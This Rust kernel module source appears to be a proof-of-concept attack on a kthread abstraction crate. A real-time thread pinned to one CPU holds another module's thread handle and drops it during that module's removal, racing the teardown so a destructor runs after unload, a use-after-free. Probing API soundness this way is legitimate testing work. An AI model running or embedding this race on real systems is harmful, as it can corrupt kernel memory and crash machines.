// SPDX-License-Identifier: GPL-2.0
//! Keeps the handle of a thread that another module has made, and drops it.
// what it attacks: the handle is dropped while the end of the thread's module waits for the thread. As soon
// as that end publishes that the thread has ended, the handle and the end compete for the result. A handle
// in a real-time thread on the same CPU wins, and runs the destructor, for which the end does not wait.
use kernel::{
    cpu::CpuId,
    new_mutex,
    prelude::*,
    sync::{Arc, Mutex, SetOnce},
    time::Delta,
};
use tether::kthread::{Builder, Policy, Thread};
module! { type: Keep, name: "fskeep", authors: ["h"], description: "attack", license: "GPL", }

#[allow(missing_docs)]
pub trait Payload: Send {}
#[pin_data]
struct Slot {
    #[pin]
    kept: Mutex<Option<Thread<KBox<dyn Payload>>>>,
}
static SLOT: SetOnce<Arc<Slot>> = SetOnce::new();
#[no_mangle]
#[allow(missing_docs)]
pub fn fskeep_keep(thread: Thread<KBox<dyn Payload>>) {
    if let Some(slot) = SLOT.as_ref() {
        *slot.kept.lock() = Some(thread);
    }
}
struct Keep {
    _thread: Thread<()>,
}
impl kernel::Module for Keep {
    fn init(_module: &'static ThisModule) -> Result<Self> {
        SLOT.populate(Arc::pin_init(
            pin_init!(Slot { kept <- new_mutex!(None) }),
            GFP_KERNEL,
        )?);
        let cpu = CpuId::from_u32(0).ok_or(EINVAL)?;
        let thread = Builder::new(c"fskeep")
            .bind(cpu)
            .policy(Policy::Fifo)
            .spawn(move |context| {
                while !context.sleep_for(Delta::from_millis(100)).is_stopped() {
                    let Some(slot) = SLOT.as_ref() else { continue };
                    let Some(kept) = slot.kept.lock().take() else {
                        continue;
                    };
                    // The module of the thread is being removed by now.
                    context.sleep_for(Delta::from_secs(6));
                    pr_info!("fskeep: dropping\n");
                    drop(kept);
                    pr_info!("fskeep: done\n");
                }
            })?;
        Ok(Keep { _thread: thread })
    }
}
impl Drop for Keep {
    fn drop(&mut self) {
        if let Some(slot) = SLOT.as_ref() {
            drop(slot.kept.lock().take());
        }
    }
}
